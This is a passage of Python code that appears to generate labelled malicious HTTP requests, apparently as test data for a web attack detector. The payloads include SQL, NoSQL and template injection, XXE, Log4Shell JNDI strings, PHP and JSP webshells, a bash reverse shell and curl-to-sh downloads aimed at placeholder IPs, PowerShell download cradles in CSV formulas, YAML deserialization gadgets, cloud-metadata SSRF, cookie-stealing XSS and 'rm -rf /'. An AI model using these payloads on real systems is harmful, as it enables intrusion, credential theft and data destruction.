        add("attacks", "json-%s-%03d" % (name, i + 1), cat, "POST", path, "api.example.com",
            body=body, ctype="application/json", browser=False)


# --- prototype pollution and NoSQL operators in JSON bodies and bracket query syntax
@attack_section
def atk_proto_nosql():
    items = [
        ("generic", "proto-merge-body", "POST", "/api/profile", js({"name": "x", "__proto__": {"admin": True}})),
        ("generic", "proto-ejs-rce", "POST", "/api/render", js({"__proto__": {"client": 1, "escapeFunction": "JSON.stringify; process.mainModule.require('child_process').exec('id')"}})),
        ("generic", "proto-constructor-body", "PATCH", "/api/settings", js({"constructor": {"prototype": {"polluted": "yes", "env": {"NODE_DEBUG": "1"}}}})),
        ("generic", "proto-query-bracket", "GET", "/api/list?__proto__[isAdmin]=true&__proto__[role]=admin", None),
        ("generic", "proto-query-constructor", "GET", "/search?constructor[prototype][sourceURL]=%0aprocess.mainModule.require('child_process').execSync('id')//", None),
        ("generic", "proto-query-dot", "GET", "/api/items?__proto__.toString=1&sort=name", None),
        ("nosqli", "nosql-bracket-ne", "GET", "/api/users?username[$ne]=x&password[$ne]=x", None),
        ("nosqli", "nosql-bracket-regex", "GET", "/api/users?username=admin&password[$regex]=^a.*", None),
        ("nosqli", "nosql-form-gt", "POST", "/login", "user=admin&pass%5B%24gt%5D="),
        ("nosqli", "nosql-body-in", "POST", "/api/orders/find", js({"customerId": {"$in": [{"$gt": ""}]}, "status": {"$nin": []}})),
        ("nosqli", "nosql-body-expr", "POST", "/api/products/find", js({"filter": {"$expr": {"$function": {"body": "function(){return sleep(5000)}", "args": [], "lang": "js"}}}})),
        ("nosqli", "nosql-aggregate-lookup", "POST", "/api/reports/aggregate", js({"pipeline": [{"$lookup": {"from": "users", "localField": "x", "foreignField": "x", "as": "leak"}}, {"$project": {"leak.password": 1}}]})),
        ("nosqli", "nosql-couch-selector", "POST", "/db/_find", js({"selector": {"password": {"$regex": ".*"}, "type": "user"}, "fields": ["name", "password"]})),
    ]
    for i, (cat, name, m, uri, body) in enumerate(items):
        if body is None:
            add("attacks", "%s-%03d" % (name, i + 1), cat, m, uri, "api.example.com", browser=False)
        elif body.startswith("{"):
            add("attacks", "%s-%03d" % (name, i + 1), cat, m, uri, "api.example.com", body=body,
                ctype="application/json", browser=False)
        else:
            add("attacks", "%s-%03d" % (name, i + 1), cat, m, uri, "api.example.com", body=body)


# --- XML inside JSON, JSON inside XML CDATA, SOAP envelopes
SOAP_NS = "http://schemas.xmlsoap.org/soap/envelope/"


def soap(body_xml, prolog=""):
    return ('%s<soapenv:Envelope xmlns:soapenv="%s" xmlns:erp="urn:example:erp:orders:v2">'
            '<soapenv:Header/><soapenv:Body>%s</soapenv:Body></soapenv:Envelope>') % (prolog, SOAP_NS, body_xml)


@attack_section
def atk_xml_wrapped():
    xml_in_json = [
        ("xxe", "json-xml-file", '<?xml version="1.0"?><!DOCTYPE inv [<!ENTITY x SYSTEM "file:///etc/passwd">]><invoice><id>&x;</id></invoice>'),
        ("xxe", "json-xml-param-entity", '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % dtd SYSTEM "http://203.0.113.50/evil.dtd"> %dtd; %send;]><d/>'),
        ("xxe", "json-xml-ssrf-entity", '<!DOCTYPE r [<!ENTITY m SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]><r>&m;</r>'),
        ("xxe", "json-svg-xxe", '<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY h SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg" width="128" height="128"><text x="0" y="16">&h;</text></svg>'),
        ("xss", "json-svg-script", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'),
        ("xxe", "json-xinclude", '<doc xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></doc>'),
        ("xxe", "json-billion-laughs", '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>'),
        ("xxe", "json-xslt-document", '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document(\'file:///etc/passwd\')"/></xsl:template></xsl:stylesheet>'),
    ]
    keys = ["xml", "ublInvoice", "document", "svg", "markup", "payload", "content", "xslt"]
    for i, (cat, name, x) in enumerate(xml_in_json):
        body = js({"format": "xml", keys[i]: x, "filename": "upload-%d.xml" % (i + 1)})
        add("attacks", "%s-%03d" % (name, i + 1), cat, "POST", "/api/documents/import", "docs.example.com",
            body=body, ctype="application/json", browser=False)
    # base64-encoded XML inside JSON (e-invoicing style)
    add("attacks", "json-b64-xml-xxe-009", "xxe", "POST", "/api/einvoice/submit", "docs.example.com",
        body=js({"documentType": "UBL", "contentBase64": b64('<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY e SYSTEM "file:///c:/windows/win.ini">]><Invoice><cbc:ID xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">&e;</cbc:ID></Invoice>')}),
        ctype="application/json", browser=False)
    # JSON inside XML CDATA
    cdata = [
        ("sqli", "cdata-json-sqli", {"customer": "1001' OR 1=1--", "items": []}),
        ("nosqli", "cdata-json-nosql", {"filter": {"owner": {"$ne": None}}}),
        ("xss", "cdata-json-xss", {"note": "<script>new Image().src='//203.0.113.9/?'+document.cookie</script>"}),
        ("java", "cdata-json-jndi", {"ref": "${jndi:rmi://198.51.100.23:1099/Obj}"}),
        ("generic", "cdata-json-proto", {"__proto__": {"admin": True}}),
        ("rce", "cdata-json-cmd", {"exportCmd": "pdftk in.pdf output out.pdf; bash -i >& /dev/tcp/203.0.113.50/443 0>&1"}),
    ]
    for i, (cat, name, obj) in enumerate(cdata):
        x = ('<?xml version="1.0" encoding="UTF-8"?><message><header><source>portal</source></header>'
             '<payload type="application/json"><![CDATA[%s]]></payload></message>') % js(obj)
        add("attacks", "%s-%03d" % (name, i + 1), cat, "POST", "/integration/inbound", "esb.example.com",
            body=x, ctype="application/xml", browser=False)
    # SOAP envelopes
    soaps = [
        ("xxe", "soap-xxe-file", soap('<erp:GetOrder><erp:id>&x;</erp:id></erp:GetOrder>', '<?xml version="1.0"?><!DOCTYPE soapenv:Envelope [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
        ("xxe", "soap-xxe-oob", soap('<erp:GetOrder><erp:id>1</erp:id></erp:GetOrder>', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % e SYSTEM "http://203.0.113.50/oob.dtd">%e;]>')),
        ("sqli", "soap-sqli-id", soap("<erp:GetOrder><erp:id>1001 OR 1=1</erp:id></erp:GetOrder>")),
        ("sqli", "soap-sqli-customer", soap("<erp:FindCustomer><erp:name>Smith' UNION SELECT login,pwd_hash,NULL FROM sys_users--</erp:name></erp:FindCustomer>")),
        ("sqli", "soap-sqli-cdata", soap("<erp:FindCustomer><erp:name><![CDATA[x' AND 1=(SELECT 1 FROM dual WHERE DBMS_PIPE.RECEIVE_MESSAGE('a',10)=1)--]]></erp:name></erp:FindCustomer>")),
        ("xss", "soap-xss-note", soap("<erp:AddNote><erp:text>&lt;script&gt;alert(1)&lt;/script&gt;</erp:text></erp:AddNote>")),
        ("java", "soap-jndi", soap("<erp:Login><erp:user>${jndi:ldap://203.0.113.77:389/o=x}</erp:user><erp:pass>x</erp:pass></erp:Login>")),
        ("rce", "soap-cmd-host", soap("<erp:Ping><erp:host>127.0.0.1 | whoami</erp:host></erp:Ping>")),
        ("lfi", "soap-path", soap("<erp:GetAttachment><erp:path>../../../../../../etc/shadow</erp:path></erp:GetAttachment>")),
        ("java", "soap-xmldecoder", '<?xml version="1.0"?><soapenv:Envelope xmlns:soapenv="%s"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.8" class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/sh</string></void><void index="1"><string>-c</string></void><void index="2"><string>id</string></void></array><void method="start"/></void></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>' % SOAP_NS),
        ("ldapi", "soap-ldap-user", soap("<erp:Authenticate><erp:user>admin)(&amp;(objectClass=*)</erp:user><erp:pass>x</erp:pass></erp:Authenticate>")),
        ("ssrf", "soap-ssrf-wsa", '<soapenv:Envelope xmlns:soapenv="%s" xmlns:wsa="http://www.w3.org/2005/08/addressing"><soapenv:Header><wsa:ReplyTo><wsa:Address>http://169.254.169.254/latest/api/token</wsa:Address></wsa:ReplyTo></soapenv:Header><soapenv:Body><erp:Ping xmlns:erp="urn:example:erp"/></soapenv:Body></soapenv:Envelope>' % SOAP_NS),
    ]
    for i, (cat, name, x) in enumerate(soaps):
        if i % 3 == 2:
            ct, extra = 'application/soap+xml; charset=utf-8; action="urn:example:erp/Call"', None
        else:
            ct, extra = "text/xml; charset=utf-8", [("SOAPAction", '"urn:example:erp/Call"')]
        add("attacks", "%s-%03d" % (name, i + 1), cat, "POST", "/ws/OrderService", "erp.example.com",
            body=x, ctype=ct, extra=extra, ua="Apache-HttpClient/4.5.14 (Java/11.0.22)")


# --- multipart parts with their own Content-Transfer-Encoding; compressed bodies
@attack_section
def atk_multipart_cte():
    parts = [
        ("php", "mp-b64-php-shell", "avatar.php", "application/octet-stream", "base64", "<?php system($_GET['c']); ?>"),
        ("php", "mp-b64-phtml-eval", "img.phtml", "image/jpeg", "base64", "GIF89a<?php @eval(base64_decode($_POST['x'])); ?>"),
        ("php", "mp-qp-php-passthru", "notes.php5", "text/plain", "quoted-printable", "<?php passthru($_REQUEST['cmd']); ?>"),
        ("xss", "mp-b64-html-xss", "report.html", "text/html", "base64", "<html><body><script>fetch('//203.0.113.9/?c='+document.cookie)</script></body></html>"),
        ("xss", "mp-qp-svg-xss", "logo.svg", "image/svg+xml", "quoted-printable", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><rect width="10" height="10"/></svg>'),
        ("xxe", "mp-b64-xml-xxe", "feed.xml", "application/xml", "base64", '<?xml version="1.0"?><!DOCTYPE f [<!ENTITY x SYSTEM "file:///etc/passwd">]><feed><title>&x;</title></feed>'),
        ("java", "mp-b64-jsp-shell", "upload.jsp", "application/octet-stream", "base64", '<%@ page import="java.io.*" %><% Process p=Runtime.getRuntime().exec(request.getParameter("cmd")); %>'),
        ("rce", "mp-qp-sh-script", "deploy.sh", "application/x-sh", "quoted-printable", "#!/bin/sh\ncurl -fsSL http://203.0.113.50/m | sh\n"),
        ("sqli", "mp-b64-field-sqli", None, "text/plain", "base64", "1' AND (SELECT 1 FROM (SELECT SLEEP(6))a)-- -"),
        ("xss", "mp-qp-field-xss", None, "text/plain; charset=utf-8", "quoted-printable", '"><svg/onload=alert(1)>'),
        ("ssti", "mp-b64-field-ssti", None, "text/plain", "base64", "${7*7}#{7*7}{{''.__class__.__mro__[1].__subclasses__()}}"),
        ("lfi", "mp-qp-filename-field", None, "text/plain", "quoted-printable", "../../../../var/www/html/.env"),
    ]
    for i, (cat, name, fname, ctype, cte, content) in enumerate(parts):
        bnd = boundary()
        enc = b64(content) if cte == "base64" else qp_encode(content)
        if fname:
            p = filepart("file", fname, ctype, enc, cte)
        else:
            p = ([("Content-Disposition", 'form-data; name="comment"'), ("Content-Type", ctype),
                  ("Content-Transfer-Encoding", cte)], enc)
        body = multipart([field("title", "Q3 upload"), p, field("csrf_token", ralnum(32))], bnd)
        add("attacks", "%s-%03d" % (name, i + 1), cat, "POST", "/uploads", "files.example.com",
            body=body, ctype="multipart/form-data; boundary=" + bnd)
    # MIME message (email-to-ticket webhook) with base64 HTML part
    bnd = "=_mixed_" + rhex(12)
    mime = ("From: client@example.org\r\nTo: support@example.com\r\nSubject: Invoice\r\nMIME-Version: 1.0\r\n"
            "Content-Type: multipart/alternative; boundary=\"%s\"\r\n\r\n--%s\r\nContent-Type: text/html; charset=utf-8\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n%s\r\n--%s--\r\n") % (
        bnd, bnd, b64('<a href="javascript:alert(document.cookie)">invoice</a><img src=x onerror=alert(1)>'), bnd)
    add("attacks", "mime-webhook-b64-html-xss-013", "xss", "POST", "/hooks/inbound-email", "helpdesk.example.com",
        body=js({"sender": "client@example.org", "raw_mime": mime}), ctype="application/json", browser=False)


@attack_section
def atk_compressed():
    items = [
        ("sqli", "gzip-json-sqli", "gzip", "application/json", "/api/search", js({"q": "' OR 1=1 UNION SELECT email,password_hash FROM users--", "page": 1})),
        ("xss", "gzip-form-xss", "gzip", "application/x-www-form-urlencoded", "/comments", urlencode({"body": "<script>alert(document.domain)</script>", "post": "17"})),
        ("java", "gzip-json-jndi", "gzip", "application/json", "/api/telemetry", js({"events": [{"ua": "${jndi:ldap://203.0.113.77:1389/a}"}]})),
        ("rce", "deflate-json-cmd", "deflate", "application/json", "/api/tools/ping", js({"target": "127.0.0.1;id;uname -a"})),
        ("xxe", "deflate-xml-xxe", "deflate", "application/xml", "/api/import", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'),
        ("ssti", "deflate-form-ssti", "deflate", "application/x-www-form-urlencoded", "/preview", urlencode({"tpl": "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"})),
    ]
    for i, (cat, name, enc, ct, path, body) in enumerate(items):
        add_raw("attacks", "%s-%03d" % (name, i + 1), cat, "POST", path, "api.example.com", ct, body, enc)


# --- CSV and TSV uploads: formula (DDE) injection and SQL in cells
@attack_section
def atk_csv():
    rows = [
        ("generic", "csv-dde-cmd", "csv", '=cmd|\' /C calc\'!A0'),
        ("generic", "csv-hyperlink-exfil", "csv", '=HYPERLINK("http://203.0.113.9/?leak="&A2&B2,"Click for details")'),
        ("generic", "csv-webservice", "csv", '=WEBSERVICE("http://203.0.113.9/x?"&ENCODEURL(C2))'),
        ("generic", "csv-plus-dde", "csv", '+cmd|\' /C powershell -nop -w hidden IEX(New-Object Net.WebClient).DownloadString("http://203.0.113.50/a")\'!A0'),
        ("generic", "csv-at-sum", "csv", '@SUM(1+9)*cmd|\' /C notepad\'!A0'),
        ("generic", "tsv-importxml", "tsv", '=IMPORTXML(CONCAT("http://203.0.113.9/?",A1),"//a")'),
        ("generic", "tsv-minus-dde", "tsv", "-2+3+cmd|' /C calc'!A0"),
        ("sqli", "csv-sqli-cell", "csv", "ACME Corp'); DELETE FROM customers WHERE ('1'='1"),
        ("sqli", "csv-sqli-union", "csv", "x' UNION SELECT username,password,3,4 FROM admin_users-- "),
        ("xss", "csv-xss-cell", "csv", "<img src=x onerror=alert(document.cookie)>"),
        ("sqli", "tsv-sqli-sleep", "tsv", "1 OR SLEEP(5)"),
        ("java", "csv-jndi-cell", "csv", "${jndi:ldap://198.51.100.23/csv}"),
    ]
    for i, (cat, name, kind, cell) in enumerate(rows):
        sep = "," if kind == "csv" else "\t"
        c = cell
        if kind == "csv" and ("," in c or '"' in c):
            c = '"' + c.replace('"', '""') + '"'
        lines = [sep.join(["id", "name", "email", "company", "notes"]),
                 sep.join(["101", "Ana Souza", "ana.souza@example.com", "Example Ltda", "vip"]),
                 sep.join(["102", "Liam O'Neil", "liam@example.org", c if i % 2 else "Example Inc", c if i % 2 == 0 else "follow up"])]
        data = "\r\n".join(lines) + "\r\n"
        bnd = boundary()
        fname = "contacts-import.%s" % kind
        ctype = "text/csv" if kind == "csv" else "text/tab-separated-values"
        if i % 3 == 2:
            add("attacks", "%s-%03d" % (name, i + 1), cat, "POST", "/api/contacts/import?format=%s" % kind,
                "crm.example.org", body=data, ctype=ctype)
        else:
            body = multipart([field("list_id", str(RNG.randint(100, 999))), filepart("file", fname, ctype, data),
                              field("has_header", "true")], bnd)
            add("attacks", "%s-%03d" % (name, i + 1), cat, "POST", "/contacts/import", "crm.example.org",
                body=body, ctype="multipart/form-data; boundary=" + bnd)


# --- YAML bodies: unsafe loaders (PyYAML, SnakeYAML, Ruby Psych) and data in YAML
@attack_section
def atk_yaml():
    docs = [
        ("rce", "yaml-python-apply", "name: job\nrun: !!python/object/apply:os.system ['curl http://203.0.113.50/y | sh']\n"),
        ("rce", "yaml-python-new-popen", "!!python/object/new:subprocess.Popen\n  args: [['/bin/sh', '-c', 'id > /tmp/x']]\n"),
        ("rce", "yaml-python-name-eval", "config: !!python/name:builtins.eval\nexpr: \"__import__('os').system('id')\"\n"),
        ("rce", "yaml-python-object-exec", "!!python/object/apply:builtins.exec\n- \"import socket,os;s=socket.socket();s.connect(('203.0.113.50',4444))\"\n"),
        ("java", "yaml-snake-scriptengine", "!!javax.script.ScriptEngineManager [\n  !!java.net.URLClassLoader [[\n    !!java.net.URL [\"http://203.0.113.77/yaml-payload.jar\"]\n  ]]\n]\n"),
        ("java", "yaml-snake-jdbcrowset", "!!com.sun.rowset.JdbcRowSetImpl\n  dataSourceName: ldap://198.51.100.23:1389/Exploit\n  autoCommit: true\n"),
        ("java", "yaml-snake-c3p0", "!!com.mchange.v2.c3p0.WrapperConnectionPoolDataSource\n  userOverridesAsString: \"HexAsciiSerializedMap:aced0005737200116a6176612e7574696c2e48617368536574\"\n"),
        ("rce", "yaml-ruby-erb", "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n       read: 0\n       header: \"abc\"\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n       socket: &1 !ruby/object:Gem::RequestSet\n           sets: !ruby/object:Net::WriteAdapter\n               socket: !ruby/module 'Kernel'\n               method_id: :system\n           git_set: id\n       method_id: :resolve\n"),
        ("java", "yaml-log4shell-value", "service:\n  name: billing\n  owner: \"${jndi:ldap://203.0.113.77:1389/y}\"\n"),
        ("sqli", "yaml-sqli-value", "report:\n  title: weekly\n  filter: \"region = 'EU' OR 1=1; DROP TABLE audit_log; --\"\n"),
        ("ssrf", "yaml-ssrf-url", "webhook:\n  url: http://169.254.169.254/latest/meta-data/iam/security-credentials/\n  method: GET\n"),
        ("ssti", "yaml-ssti-field", "notification:\n  subject: \"{{ ''.__class__.__mro__[1].__subclasses__()[408]('id',shell=True,stdout=-1).communicate() }}\"\n"),
    ]
    cts = ["application/yaml", "application/x-yaml", "text/yaml", "application/yaml; charset=utf-8"]
    for i, (cat, name, y) in enumerate(docs):
        path = RNG.choice(["/api/pipelines/import", "/api/config", "/api/v1/workflows", "/admin/settings/import"])
        if i % 4 == 3:
            body = js({"format": "yaml", "content": y})
            add("attacks", "%s-%03d" % (name, i + 1), cat, "POST", path, "ops.example.com", body=body,
                ctype="application/json", browser=False)
        else:
            add("attacks", "%s-%03d" % (name, i + 1), cat, "POST", path, "ops.example.com", body=y,
                ctype=cts[i % len(cts)], browser=False)
    # YAML base64-encoded in a JSON field (k8s/CI style)
    y = "apiVersion: v1\nkind: ConfigMap\ndata:\n  loader: !!python/object/apply:os.popen ['cat /var/run/secrets/kubernetes.io/serviceaccount/token']\n"
    add("attacks", "yaml-b64-in-json-python-013", "rce", "POST", "/api/manifests", "ops.example.com",
        body=js({"name": "cm", "manifestBase64": b64(y)}), ctype="application/json", browser=False)


# --- NDJSON batches (bulk APIs, log/event ingestion)
@attack_section
def atk_ndjson():
    batches = [
        ("sqli", "ndjson-events-sqli", [{"event": "view", "page": "/p/1"}, {"event": "search", "term": "shoe' UNION SELECT null,version()--"}]),
        ("xss", "ndjson-events-xss", [{"event": "feedback", "text": "<script src=//203.0.113.9/x.js></script>"}, {"event": "view", "page": "/"}]),
        ("java", "ndjson-logs-jndi", [{"level": "info", "msg": "login ok"}, {"level": "warn", "msg": "bad ua", "ua": "${jndi:ldap://203.0.113.77/l}"}]),
        ("nosqli", "ndjson-import-nosql", [{"op": "update", "filter": {"_id": {"$gt": ""}}, "update": {"$set": {"role": "admin"}}}]),
        ("generic", "ndjson-proto", [{"id": 1, "name": "a"}, {"id": 2, "__proto__": {"isAdmin": True}}]),
        ("rce", "ndjson-task-cmd", [{"task": "thumbnail", "args": ["in.png", "out.png"]}, {"task": "thumbnail", "args": ["x.png;rm -rf / --no-preserve-root", "y.png"]}]),
    ]
    for i, (cat, name, recs) in enumerate(batches):
        body = "\n".join(js(r) for r in recs) + "\n"
        add("attacks", "%s-%03d" % (name, i + 1), cat, "POST", "/ingest/v1/batch", "collector.example.net",
            body=body, ctype="application/x-ndjson", browser=False)
    # Elasticsearch _bulk and _msearch with scripts
    bulk = (js({"update": {"_index": "products", "_id": "1"}}) + "\n" +
            js({"script": {"source": "java.lang.Math.class.forName('java.lang.Runtime').getRuntime().exec('id')", "lang": "painless"}}) + "\n")
    add("attacks", "ndjson-es-bulk-script-007", "java", "POST", "/_bulk", "search.example.com", body=bulk,
        ctype="application/x-ndjson", browser=False)
    msearch = (js({"index": "orders"}) + "\n" +
               js({"query": {"script": {"script": "Runtime.getRuntime().exec(\"curl 203.0.113.50\")"}}}) + "\n")
    add("attacks", "ndjson-es-msearch-script-008", "java", "POST", "/_msearch", "search.example.com", body=msearch,
        ctype="application/x-ndjson", browser=False)


# --- GraphQL variables, JSON-RPC params arrays, Protobuf-JSON
@attack_section
def atk_rpc():
    gql = [
        ("sqli", "gql-var-sqli", "query Product($slug: String!) { product(slug: $slug) { id name price } }", {"slug": "x' OR 1=1--"}),
        ("sqli", "gql-var-orderby", "query List($order: String) { orders(orderBy: $order, first: 20) { id total } }", {"order": "created_at,(SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE 0 END)"}),
        ("xss", "gql-var-xss", "mutation Upd($bio: String!) { updateProfile(bio: $bio) { id } }", {"bio": "<img src=x onerror=alert(document.domain)>"}),
        ("nosqli", "gql-var-nosql", "query U($f: JSON) { users(filter: $f) { id email } }", {"f": {"password": {"$regex": "^a"}}}),
        ("ssrf", "gql-var-ssrf", "mutation Imp($u: String!) { importFromUrl(url: $u) { id } }", {"u": "http://169.254.169.254/computeMetadata/v1/?recursive=true"}),
        ("lfi", "gql-var-traversal", "query F($p: String!) { file(path: $p) { content } }", {"p": "../../../../../etc/passwd"}),
        ("rce", "gql-var-cmd", "mutation D($h: String!) { diagnostics(host: $h) { output } }", {"h": "example.com && cat /etc/passwd"}),
        ("java", "gql-var-jndi", "mutation L($u: String!, $p: String!) { login(user: $u, password: $p) { token } }", {"u": "${jndi:ldap://203.0.113.77/g}", "p": "x"}),
        ("ssti", "gql-var-ssti", "mutation T($b: String!) { saveTemplate(body: $b) { id } }", {"b": "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"}),
        ("scanner", "gql-introspection-probe", "query IntrospectionQuery { __schema { queryType { name } types { name fields { name args { name } } } } }", {}),
        ("sqli", "gql-inline-arg-sqli", "{ user(id: \"1 UNION SELECT password FROM users\") { name } }", None),
        ("ldapi", "gql-var-ldap", "query Dir($q: String!) { directorySearch(q: $q) { cn mail } }", {"q": "*)(|(userPassword=*)"}),
    ]
    for i, (cat, name, query, vars_) in enumerate(gql):
        doc = {"query": query}
        if vars_ is not None:
            doc["variables"] = vars_
            doc["operationName"] = query.split("(")[0].split()[-1] if "(" in query.split("{")[0] else None
        if i % 4 == 3 and vars_:
            uri = "/graphql?query=%s&variables=%s" % (q(query), q(js(vars_)))
            add("attacks", "%s-%03d" % (name, i + 1), cat, "GET", uri, "api.example.com", browser=False)
        else:
            add("attacks", "%s-%03d" % (name, i + 1), cat, "POST", "/graphql", "api.example.com",
                body=js(doc), ctype="application/json", browser=False)
    rpc = [
        ("sqli", "jsonrpc-params-sqli", "order.search", ["status = 'draft' OR 1=1 --", 0, 50]),
        ("rce", "jsonrpc-params-cmd", "system.ping", ["127.0.0.1`id`"]),
        ("lfi", "jsonrpc-params-path", "files.read", ["/var/www/app/../../../etc/passwd"]),
        ("xss", "jsonrpc-params-xss", "note.create", [{"title": "hi", "body": "<svg onload=alert(1)>"}]),
        ("sqli", "odoo-search-read-domain", "call", {"service": "object", "method": "execute_kw", "args": ["db", 2, "pw", "res.partner", "search_read", [[["name", "=", "x') OR 1=1--"]]], {"fields": ["name"]}]}),
        ("java", "jsonrpc-jndi", "user.lookup", ["${jndi:ldap://198.51.100.23:1389/r}"]),
        ("ssrf", "jsonrpc-ssrf", "feed.fetch", ["http://127.0.0.1:6379/"]),
        ("rce", "aria2-jsonrpc-onstart", "aria2.changeGlobalOption", ["token:secret", {"on-download-complete": "/bin/sh -c 'curl 203.0.113.50|sh'"}]),
    ]
    for i, (cat, name, method, params) in enumerate(rpc):
        body = js({"jsonrpc": "2.0", "method": method, "params": params, "id": i + 1})
        if i % 4 == 1:
            body = "[" + body + "," + js({"jsonrpc": "2.0", "method": "system.version", "id": 99}) + "]"
        add("attacks", "%s-%03d" % (name, i + 1), cat, "POST", "/jsonrpc", "rpc.example.com", body=body,
            ctype="application/json-rpc" if i % 3 == 0 else "application/json", browser=False)
    # Protobuf-JSON (grpc-gateway / Google APIs style: camelCase, int64 as strings, bytes as base64)
    pbj = [
        ("sqli", "pbjson-filter-sqli", {"parent": "projects/p1/locations/eu", "filter": "labels.env = \"prod\" OR 1=1; SELECT * FROM secrets --", "pageSize": 50}),
        ("lfi", "pbjson-name-traversal", {"name": "projects/p1/buckets/../../../../etc/passwd", "readMask": "content"}),
        ("xss", "pbjson-bytes-xss", {"displayName": "doc", "content": b64("<script>alert(document.domain)</script>"), "mimeType": "text/html"}),
        ("java", "pbjson-jndi", {"userId": "9007199254740993", "deviceModel": "${jndi:ldap://203.0.113.77/pb}"}),
        ("ssrf", "pbjson-any-url", {"source": {"@type": "type.googleapis.com/example.v1.UrlSource", "uri": "http://metadata.google.internal/computeMetadata/v1/instance/attributes/kube-env"}}),
    ]
    for i, (cat, name, obj) in enumerate(pbj):
        add("attacks", "%s-%03d" % (name, i + 1), cat, "POST", "/v1/projects/p1/resources:search",
            "grpc-gw.example.com", body=js(obj), ctype="application/json",
            extra=[("X-Goog-Api-Client", "gl-go/1.22.4 gapic/0.8.0"), ("grpc-metadata-tenant", "t1")], browser=False)


# --- nested URL encoding: form fields / params holding query strings; double and triple encoding
@attack_section
def atk_nested_urlenc():
    nested = [
        ("sqli", "nested-qs-sqli", "filters", {"status": "paid", "customer": "5' OR '1'='1"}),
        ("xss", "nested-qs-xss", "state", {"tab": "orders", "msg": "<script>alert(1)</script>"}),
        ("lfi", "nested-qs-lfi", "query", {"view": "../../../../etc/passwd", "mode": "raw"}),
        ("rce", "nested-qs-rce", "params", {"host": "10.0.0.1", "opts": "-c 1; id"}),
        ("ssrf", "nested-qs-ssrf", "returnParams", {"image": "http://169.254.169.254/latest/meta-data/", "w": "200"}),
        ("sqli", "nested-qs-blind", "search", {"q": "a' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64-- -"}),
        ("java", "nested-qs-jndi", "ctx", {"ref": "${jndi:ldap://203.0.113.77/n}"}),
        ("ssti", "nested-qs-ssti", "tpl", {"greeting": "{{7*'7'}}{{config}}"}),
    ]
    for i, (cat, name, pname, inner) in enumerate(nested):
        inner_qs = urlencode(inner)
        if i % 2 == 0:
            body = urlencode({pname: inner_qs, "return_to": "/orders"})
            add("attacks", "%s-form-%03d" % (name, i + 1), cat, "POST", "/session/restore", "app.example.com", body=body)
        else:
            add("attacks", "%s-query-%03d" % (name, i + 1), cat, "GET",
                "/list?%s=%s" % (pname, q(inner_qs)), "app.example.com")
    dbl = [
        ("lfi", "dbl-traversal", "/static/download?file=%s" % qq("../../../../etc/passwd")),
        ("lfi", "dbl-traversal-path", "/assets/%s" % qq("../../../../../etc/shadow").replace("%252F", "%252f")),
        ("lfi", "triple-traversal", "/api/files?name=%s" % qqq("../../../windows/system32/drivers/etc/hosts")),
        ("xss", "dbl-xss", "/search?q=%s" % qq("<script>alert(document.domain)</script>")),
        ("xss", "triple-xss", "/error?msg=%s" % qqq("\"><svg onload=alert(1)>")),
        ("sqli", "dbl-sqli", "/products?id=%s" % qq("1' UNION SELECT NULL,@@version-- -")),
        ("sqli", "triple-sqli", "/api/users?sort=%s" % qqq("id;SELECT pg_sleep(5)")),
        ("rce", "dbl-rce", "/cgi-bin/status?host=%s" % qq("127.0.0.1|cat /etc/passwd")),
        ("ssrf", "dbl-ssrf", "/proxy?url=%s" % qq("http://127.0.0.1:8080/admin")),
        ("crlf", "dbl-crlf", "/redirect?to=%s" % ("%250d%250aSet-Cookie:%2520admin=true")),
        ("java", "dbl-jndi", "/api/lookup?name=%s" % qq("${jndi:ldap://203.0.113.77/d}")),
        ("lfi", "dbl-dot-overlong", "/download?f=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
        ("lfi", "utf8-overlong", "/files/..%c0%af..%c0%af..%c0%afetc/passwd"),
        ("lfi", "iis-unicode", "/scripts/..%u2215..%u2215..%u2215windows/win.ini"),
    ]
    for i, (cat, name, uri) in enumerate(dbl):
        add("attacks", "%s-%03d" % (name, i + 1), cat, "GET", uri, "www.example.com")
    # redirect/return URL carrying an encoded query with the payload
    add("attacks", "nested-returnurl-xss-023", "xss", "GET",
        "/login?returnUrl=%s" % q("/account?tab=" + q("\"><script>alert(1)</script>")), "www.example.com")
    add("attacks", "nested-returnurl-js-024", "xss", "GET",
        "/sso/start?next=%s" % qq("javascript:alert(document.cookie)"), "www.example.com")


# --- hex-encoded parameters and data: URIs
@attack_section
def atk_hex_datauri():
    hx = [
